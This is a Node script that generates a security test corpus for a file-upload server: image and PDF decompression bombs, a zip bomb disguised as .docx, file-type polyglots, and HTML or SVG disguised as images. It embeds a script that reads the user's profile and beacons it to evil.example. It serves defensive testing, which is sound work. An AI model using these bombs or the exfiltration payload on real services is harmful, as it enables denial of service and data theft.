#!/usr/bin/env node
// Writes the corpus of hostile files next to this script, and corpus.json (what each attacks and the
// answer the server owes it), which hostile-files.test.ts reads. Plain Node and sharp (already a
// dependency of the server); run it again after a change: `node apps/server/src/test/hostile-files/make-corpus.mjs`.
// Every output is deterministic (no random bytes, no dates), so a run without changes rewrites the
// same files. Each bomb is small on disk and huge once decoded.
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';

const here = path.dirname(fileURLToPath(import.meta.url));
const MB = 1024 * 1024;

// ───────────── helpers: PNG chunks, zip archives, PDFs ─────────────

const u32be = (n) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
};

function pngChunk(type, data) {
  const head = Buffer.from(type, 'latin1');
  return Buffer.concat([u32be(data.length), head, data, u32be(crc32(Buffer.concat([head, data])))]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width, height, bitDepth, colourType) {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = bitDepth;
  data[9] = colourType;
  return pngChunk('IHDR', data);
}

/**
 * Raw deflate of `total` bytes of `fill`, without ever holding them: one chunk is compressed with a
 * full flush (which ends on a byte boundary and forgets the dictionary), so its output can be
 * repeated; an empty final block closes the stream. Also returns the CRC-32 of the inflated bytes.
 */
function deflateRepeated(prefix, fill, total, suffix) {
  const CHUNK = 16 * MB;
  const chunk = Buffer.alloc(CHUNK, fill);
  const body = total - prefix.length - suffix.length;
  const whole = Math.floor(body / CHUNK);
  const rest = body - whole * CHUNK;
  const flushed = (bytes) => deflateRawSync(bytes, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const parts = [flushed(prefix)];
  const repeated = flushed(chunk);
  let crc = crc32(prefix);
  for (let i = 0; i < whole; i += 1) {
    parts.push(repeated);
    crc = crc32(chunk, crc);
  }
  const tail = Buffer.concat([chunk.subarray(0, rest), suffix]);
  parts.push(deflateRawSync(tail, { level: 9 }));
  crc = crc32(tail, crc);
  return { deflated: Buffer.concat(parts), crc, size: total, adler: adler32Of(prefix, fill, body, suffix) };
}

/** The Adler-32 (zlib's checksum) of `prefix`, then `count` bytes of `fill`, then `suffix`, computed without them. */
function adler32Of(prefix, fill, count, suffix) {
  const M = 65521n;
  let a = 1n;
  let b = 0n;
  const add = (bytes) => {
    for (const byte of bytes) {
      a = (a + BigInt(byte)) % M;
      b = (b + a) % M;
    }
  };
  add(prefix);
  // a run of n bytes c: a grows by c each byte, b by each successive a
  const n = BigInt(count);
  const c = BigInt(fill);
  b = (b + n * a + (c * n * (n + 1n)) / 2n) % M;
  a = (a + n * c) % M;
  add(suffix);
  return Number((b << 16n) | a);
}

/**
 * A zip archive of the given entries: `{ name, data }` (deflated here) or `{ name, deflated, crc,
 * size }` (deflated already). No data descriptors, no zip64: every size fits in 32 bits.
 */
function zip(entries) {
  const locals = [];
  const directory = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const deflated = entry.deflated ?? deflateRawSync(entry.data, { level: 9 });
    const crc = entry.crc ?? crc32(entry.data);
    const size = entry.size ?? entry.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(0, 10); // time and date: 1980-00-00, the same on every run
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(deflated.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    locals.push(local, name, deflated);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(0, 12);
    central.writeUInt32LE(crc >>> 0, 16);
    central.writeUInt32LE(deflated.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    directory.push(central, name);
    offset += 30 + name.length + deflated.length;
  }
  const dir = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

/**
 * A PDF of numbered objects (object n is `objects[n - 1]`: a string, or `{ dict, stream }` for a
 * stream object whose /Length is added), with a correct cross-reference table. Object 1 is the catalog.
 */
function pdf(objects) {
  const parts = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let at = parts[0].length;
  const offsets = [];
  objects.forEach((object, i) => {
    offsets.push(at);
    const body =
      typeof object === 'string'
        ? Buffer.from(`${i + 1} 0 obj\n${object}\nendobj\n`, 'latin1')
        : Buffer.concat([
            Buffer.from(
              `${i + 1} 0 obj\n<< ${object.dict} /Length ${object.stream.length} >>\nstream\n`,
              'latin1',
            ),
            object.stream,
            Buffer.from('\nendstream\nendobj\n', 'latin1'),
          ]);
    parts.push(body);
    at += body.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root 1 0 R >>`,
    'startxref',
    String(at),
    '%%EOF',
    '',
  ].join('\n');
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(parts);
}

/** A one-page PDF whose page content is the given stream (with the given filter). */
const onePagePdf = (content, filter) =>
  pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    { dict: filter === undefined ? '' : `/Filter ${filter}`, stream: content },
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);

const HTML_PAYLOAD =
  '<!DOCTYPE html><html><head><title>x</title></head><body>' +
  '<script>fetch("/elevate-be/rest/api/job-seeker/profile").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script>' +
  '</body></html>\n';

/** A small, valid, deterministic picture (a pattern, no noise) in the given format. */
function pattern(width, height) {
  const raw = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const i = (y * width + x) * 3;
      raw[i] = (x * 7) ^ (y * 3);
      raw[i + 1] = (x * y) >> 4;
      raw[i + 2] = ((x + y) * 5) & 0xff;
    }
  }
  return sharp(raw, { raw: { width, height, channels: 3 } });
}

// ───────────── the corpus ─────────────

/** @type {{ file: string; attacks: string; expected: Record<string, string>; bytes: () => Promise<Buffer> | Buffer }[]} */
const corpus = [
  {
    file: 'png-ihdr-100000x100000.png',
    attacks:
      'A decompression bomb by its header: a 1 KB PNG whose IHDR says 100,000 × 100,000 RGBA (10^10 pixels, 40 GB decoded).',
    expected: { upload: 'refused' },
    bytes: () =>
      Buffer.concat([
        PNG_SIGNATURE,
        ihdr(100_000, 100_000, 8, 6),
        // the first rows, all zero: valid zlib, a few hundred bytes
        pngChunk('IDAT', deflateSync(Buffer.alloc(400_001 * 2), { level: 9 })),
        pngChunk('IEND', Buffer.alloc(0)),
      ]),
  },
  {
    file: 'png-bomb-6000x6000-truncated.png',
    attacks:
      'A decompression bomb under the pixel limit: IHDR says 6000 × 6000 RGBA (36 Mpx, just under FILE_MAX_IMAGE_PIXELS = 40 M; 144 MB decoded) and the IDAT is valid zlib of zeros that stops two thirds of the way (truncated), so the decoder inflates ~100 MB and then fails.',
    expected: { upload: 'refused' },
    bytes: () => {
      const full = deflateSync(Buffer.alloc(6000 * (1 + 6000 * 4)), { level: 9 });
      return Buffer.concat([
        PNG_SIGNATURE,
        ihdr(6000, 6000, 8, 6),
        pngChunk('IDAT', full.subarray(0, Math.floor((full.length * 2) / 3))),
        pngChunk('IEND', Buffer.alloc(0)),
      ]);
    },
  },
  {
    file: 'png-truncated-half.png',
    attacks: 'A damaged image: a valid 320 × 240 PNG cut in the middle of its IDAT (no IEND).',
    expected: { upload: 'refused' },
    bytes: async () => {
      const png = await pattern(320, 240).png({ compressionLevel: 9 }).toBuffer();
      return png.subarray(0, Math.floor(png.length / 2));
    },
  },
  {
    file: 'jpeg-truncated-half.jpg',
    attacks:
      'A damaged image: a valid 640 × 480 baseline JPEG cut in half (no EOI): the stream error that crashed the process (sharp).',
    expected: { upload: 'refused' },
    bytes: async () => {
      const jpeg = await pattern(640, 480).jpeg({ quality: 90 }).toBuffer();
      return jpeg.subarray(0, Math.floor(jpeg.length / 2));
    },
  },
  {
    file: 'jpeg-sof-65500x65500.jpg',
    attacks:
      'A decompression bomb by its header: a valid 16 × 16 JPEG whose frame header (SOF0) is patched to 65,500 × 65,500 (4.3 Gpx).',
    expected: { upload: 'refused' },
    bytes: async () => {
      const jpeg = Buffer.from(await pattern(16, 16).jpeg({ quality: 80 }).toBuffer());
      for (let i = 2; i < jpeg.length - 9;) {
        if (jpeg[i] !== 0xff) break;
        const marker = jpeg[i + 1];
        const length = jpeg.readUInt16BE(i + 2);
        if (marker === 0xc0 || marker === 0xc2) {
          jpeg.writeUInt16BE(65_500, i + 5); // height
          jpeg.writeUInt16BE(65_500, i + 7); // width
          return jpeg;
        }
        i += 2 + length;
      }
      throw new Error('no SOF marker in the generated JPEG');
    },
  },
  {
    file: 'webp-vp8x-claims-16000x16000.webp',
    attacks:
      'A WebP with a lying header: an extended (VP8X) header claiming a 16,000 × 16,000 canvas (256 Mpx) around a real 16 × 16 VP8 frame.',
    expected: { upload: 'refused' },
    bytes: async () => {
      const small = await pattern(16, 16).webp({ quality: 80 }).toBuffer();
      // the frame's own chunk (VP8 or VP8L) is everything after "RIFF" size "WEBP"
      const frame = small.subarray(12);
      const vp8x = Buffer.alloc(18);
      vp8x.write('VP8X', 0, 'latin1');
      vp8x.writeUInt32LE(10, 4);
      vp8x.writeUIntLE(16_000 - 1, 12, 3);
      vp8x.writeUIntLE(16_000 - 1, 15, 3);
      const body = Buffer.concat([Buffer.from('WEBP', 'latin1'), vp8x, frame]);
      const riff = Buffer.alloc(8);
      riff.write('RIFF', 0, 'latin1');
      riff.writeUInt32LE(body.length, 4);
      return Buffer.concat([riff, body]);
    },
  },
  {
    file: 'jpeg-html-polyglot.jpg',
    attacks:
      'A polyglot: JPEG magic and a JFIF APP0 segment, then an HTML page with a script instead of an image; a server that trusts the magic bytes and serves it back could run the script in its origin.',
    expected: { upload: 'refused' },
    bytes: () =>
      Buffer.concat([
        Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
        Buffer.from('JFIF\0', 'latin1'),
        Buffer.from([0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
        Buffer.from(HTML_PAYLOAD.repeat(4), 'utf8'),
      ]),
  },
  {
    file: 'png-with-zip-appended.png',
    attacks:
      'A polyglot: a valid 64 × 64 PNG with a zip archive (holding index.html) appended after IEND, so the same bytes open as a picture and as an archive.',
    expected: { upload: 'neutralised' },
    bytes: async () =>
      Buffer.concat([
        await pattern(64, 64).png().toBuffer(),
        zip([{ name: 'index.html', data: Buffer.from(HTML_PAYLOAD, 'utf8') }]),
      ]),
  },
  {
    file: 'html-named-as.pdf',
    attacks: 'HTML in disguise: a web page with a script, named .pdf (and sent as application/pdf).',
    expected: { upload: 'refused' },
    bytes: () => Buffer.from(HTML_PAYLOAD, 'utf8'),
  },
  {
    file: 'html-named-as.jpg',
    attacks: 'HTML in disguise: a web page with a script, named .jpg (and sent as image/jpeg).',
    expected: { upload: 'refused' },
    bytes: () => Buffer.from(HTML_PAYLOAD, 'utf8'),
  },
  {
    file: 'svg-with-script-named.png',
    attacks: 'SVG in disguise: an SVG image carrying a `<script>` and an `onload` handler, named .png.',
    expected: { upload: 'refused' },
    bytes: () =>
      Buffer.from(
        '<?xml version="1.0" encoding="UTF-8"?>\n' +
          '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(document.domain)">' +
          '<script type="text/javascript">fetch("/elevate-be/rest/api/job-seeker/profile")</script>' +
          '<rect width="64" height="64" fill="red"/></svg>\n',
        'utf8',
      ),
  },
  {
    file: 'mp4-header-then-html.mp4',
    attacks:
      'A polyglot: an ISO media `ftyp` box (isom), so the magic bytes say MP4, followed by an HTML page instead of any media box.',
    expected: { upload: 'served-safely' },
    bytes: () => {
      const ftyp = Buffer.alloc(24);
      ftyp.writeUInt32BE(24, 0);
      ftyp.write('ftypisom', 4, 'latin1');
      ftyp.writeUInt32BE(0x200, 12);
      ftyp.write('isomiso2', 16, 'latin1');
      return Buffer.concat([ftyp, Buffer.from(HTML_PAYLOAD.repeat(4), 'utf8')]);
    },
  },
  {
    file: 'pdf-html-polyglot.pdf',
    attacks: 'A polyglot: the `%PDF-` magic, then an HTML page with a script and no PDF structure at all.',
    expected: { upload: 'accepted', prefill: 'refused' },
    bytes: () =>
      Buffer.concat([Buffer.from('%PDF-1.7\n', 'latin1'), Buffer.from(HTML_PAYLOAD.repeat(4), 'utf8')]),
  },
  {
    file: 'pdf-text-bomb.pdf',
    attacks:
      'A PDF text bomb: one valid page whose FlateDecoded content (~200 KB on disk) is a run of 1.6 million `(AAAA…) Tj T*` text operators (64 MB inflated): text extraction spends minutes and gigabytes on it.',
    expected: { upload: 'accepted', prefill: 'refused' },
    bytes: () => {
      const line = Buffer.from(`(${'A'.repeat(32)}) Tj T*\n`, 'latin1');
      const content = Buffer.concat([
        Buffer.from('BT /F1 1 Tf 1 TL 0 0 Td\n', 'latin1'),
        Buffer.alloc(64 * MB, line),
        Buffer.from('\nET\n', 'latin1'),
      ]);
      return onePagePdf(deflateSync(content, { level: 9 }), '/FlateDecode');
    },
  },
  {
    file: 'pdf-stream-bomb-1gb.pdf',
    attacks:
      'A PDF stream bomb: the page content is deflated twice (/Filter [/FlateDecode /FlateDecode]): a few KB on disk, ~1 MB after the first inflation and 1 GB of blanks after the second.',
    expected: { upload: 'accepted', prefill: 'refused' },
    bytes: () => {
      const inner = deflateRepeated(
        Buffer.from('BT /F1 12 Tf 72 720 Td (', 'latin1'),
        0x20,
        1024 * MB,
        Buffer.from(') Tj ET\n', 'latin1'),
      );
      // a zlib wrapper around the raw stream (FlateDecode is zlib), then deflated once more
      const header = Buffer.from([0x78, 0xda]);
      const once = Buffer.concat([header, inner.deflated, u32be(inner.adler)]);
      return onePagePdf(deflateSync(once, { level: 9 }), '[/FlateDecode /FlateDecode]');
    },
  },
  {
    file: 'pdf-100000-pages.pdf',
    attacks:
      'A PDF with 100,000 pages in its page tree, made of five levels of ten shared nodes over one page (a few KB): anything that walks or counts every page does 100,000 times the work.',
    expected: { upload: 'accepted', prefill: 'bounded' },
    bytes: () => {
      // objects: 1 catalog, 2 the page's content, 3 font, 4..8 the tree's levels (8 is the root), 9 the page
      const kids = (ref) => Array.from({ length: 10 }, () => `${ref} 0 R`).join(' ');
      return pdf([
        '<< /Type /Catalog /Pages 8 0 R >>',
        {
          dict: '',
          stream: Buffer.from('BT /F1 12 Tf 72 720 Td (Page of a very long document) Tj ET\n', 'latin1'),
        },
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
        `<< /Type /Pages /Kids [${kids(9)}] /Count 10 >>`,
        `<< /Type /Pages /Kids [${kids(4)}] /Count 100 >>`,
        `<< /Type /Pages /Kids [${kids(5)}] /Count 1000 >>`,
        `<< /Type /Pages /Kids [${kids(6)}] /Count 10000 >>`,
        `<< /Type /Pages /Kids [${kids(7)}] /Count 100000 >>`,
        '<< /Type /Page /Parent 4 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 2 0 R >>',
      ]);
    },
  },
  {
    file: 'pdf-nested-arrays.pdf',
    attacks:
      'A PDF whose page dictionary holds 50,000 nested arrays `/Annots [[[[…]]]]` (100 KB): a recursive parser runs out of stack, an iterative one builds 50,000 arrays.',
    expected: { upload: 'accepted', prefill: 'refused' },
    bytes: () => {
      const depth = 50_000;
      return pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Annots ${'['.repeat(depth)}${']'.repeat(depth)} /Contents 4 0 R >>`,
        { dict: '', stream: Buffer.from('BT /F1 12 Tf 72 720 Td (Nested) Tj ET\n', 'latin1') },
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      ]);
    },
  },
  {
    file: 'zip-bomb.docx',
    attacks:
      'A zip bomb named .docx: `[Content_Types].xml` (a real Word one), `_rels/.rels` and a `word/document.xml` of ~2 GB (2,000,000,000 bytes, mostly blanks) deflated to ~2 MB, so a check of the entry names alone passes.',
    expected: { upload: 'refused' },
    bytes: () => {
      const document = deflateRepeated(
        Buffer.from(
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>',
          'utf8',
        ),
        0x20,
        2_000_000_000,
        Buffer.from('</w:t></w:r></w:p></w:body></w:document>\n', 'utf8'),
      );
      return zip([
        { name: '[Content_Types].xml', data: Buffer.from(WORD_CONTENT_TYPES, 'utf8') },
        { name: '_rels/.rels', data: Buffer.from(WORD_RELS, 'utf8') },
        { name: 'word/document.xml', ...document },
      ]);
    },
  },
  {
    file: 'zip-of-html-named.docx',
    attacks:
      'HTML in a zip named .docx: the entries `[Content_Types].xml` and `word/document.xml` are there (a names-only check passes), but the content types part declares HTML, not a Word document, and the entries are web pages.',
    expected: { upload: 'refused' },
    bytes: () =>
      zip([
        {
          name: '[Content_Types].xml',
          data: Buffer.from(
            '<?xml version="1.0" encoding="UTF-8"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
              '<Default Extension="html" ContentType="text/html"/><Default Extension="xml" ContentType="text/html"/></Types>\n',
            'utf8',
          ),
        },
        { name: 'word/document.xml', data: Buffer.from(HTML_PAYLOAD, 'utf8') },
        { name: 'index.html', data: Buffer.from(HTML_PAYLOAD, 'utf8') },
      ]),
  },
];

const WORD_CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
  '</Types>\n';

const WORD_RELS =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
  '</Relationships>\n';

const manifest = [];
for (const entry of corpus) {
  const bytes = await entry.bytes();
  writeFileSync(path.join(here, entry.file), bytes);
  manifest.push({ file: entry.file, bytes: bytes.length, attacks: entry.attacks, expected: entry.expected });
  process.stdout.write(`${entry.file.padEnd(36)} ${String(bytes.length).padStart(9)} bytes\n`);
}
writeFileSync(path.join(here, 'corpus.json'), `${JSON.stringify(manifest, null, 2)}\n`);

// ───────────── README.md: the same list, for people ─────────────

/** The answer each expectation stands for, as the README says it (hostile-files.test.ts checks it). */
const ANSWERS = {
  refused: 'Upload: 4xx (400 `unsupported_file`, or 413 `file_too_large`), nothing stored.',
  neutralised:
    'Upload: 200, stored re-encoded (the appended archive is gone: the download holds no `PK` entry nor `<script`); preview and ranged download work.',
  'served-safely':
    'Upload: 4xx, or 200 and then only ever served as `video/mp4` with `nosniff` and a sandboxing CSP (never as HTML); no processing.',
  'accepted:refused':
    'Upload: 200 (a PDF is stored as it is). Résumé prefill: 4xx (400 `unreadable_pdf` or 413/422), within FILE_WORK_TIMEOUT_MS, the server answering others meanwhile. Preview and ranged download: 200/206, the bytes as they are.',
  'accepted:bounded':
    'Upload: 200. Résumé prefill: within FILE_WORK_TIMEOUT_MS, 200 with the first pages only (`truncated: true`) or 4xx. Preview and ranged download: 200/206.',
};
const answerOf = (expected) =>
  ANSWERS[expected.prefill === undefined ? expected.upload : `${expected.upload}:${expected.prefill}`];
const kb = (n) => (n < 1024 ? `${n} B` : `${Math.round(n / 1024)} KB`);
const readme = [
  '# Hostile files',
  '',
  'Files made to hurt a file manager: truncated and oversized images, decompression bombs, polyglots,',
  'PDF text and stream bombs, zip bombs, HTML and SVG in disguise. `hostile-files.test.ts` (next to this',
  'folder) starts a real listening server and sends each one to every path that takes or processes an',
  'upload: `POST /fm/upload` (as a job seeker and as a recruiter), then, for what the upload keeps, the',
  'résumé prefill (`POST /elevate-be/rest/api/job-seeker/profile/resume-prefill`), the preview',
  '(`GET /fm/download/preview/{id}`), a ranged download (`GET /fm/download/{id}`, `Range: bytes=0-1023`) and',
  'the profile fields that point at files (`PATCH /elevate-be/rest/api/job-seeker/profile`: they check the',
  "stored type and never read the bytes). It checks each answer, its time, the process's memory (with",
  'the processes the file work runs in), that a probe of cheap requests keeps being answered meanwhile,',
  'and that nothing is left in `DATA_DIR/incoming`. It also previews each image of the corpus stored as',
  'it is (as if kept before the upload checks), sends the text bomb to four prefills at once (two are',
  'worked on, two refused with 429 and Retry-After: FILE_WORK_PER_ACCOUNT, FILE_WORK_CONCURRENCY), and',
  'sends an image and a document one byte over their size limits (413).',
  '',
  'The files are made by `make-corpus.mjs` (plain Node and sharp; deterministic): run',
  '`node apps/server/src/test/hostile-files/make-corpus.mjs` after changing it. It also writes',
  '`corpus.json`, which the test reads, and this README. Each bomb is small here and huge once decoded.',
  '',
  'Each file, what it attacks, and the answer the server owes it:',
  '',
  ...manifest.flatMap((m) => [
    `- \`${m.file}\` (${kb(m.bytes)}): ${m.attacks}`,
    `  - Expected: ${answerOf(m.expected)}`,
  ]),
  '- `oversized-image.jpg` (made by the test, FILE_MAX_IMAGE_BYTES + 1): an image over its size limit, JPEG magic and then zeros.',
  '  - Expected: Upload: 413 `file_too_large`, the upload cut off as soon as the limit is passed.',
  '- `oversized-document.pdf` (made by the test, FILE_MAX_DOCUMENT_BYTES + 1): a document over its size limit.',
  '  - Expected: Upload: 413 `file_too_large`.',
  '',
].join('\n');
writeFileSync(path.join(here, 'README.md'), readme);
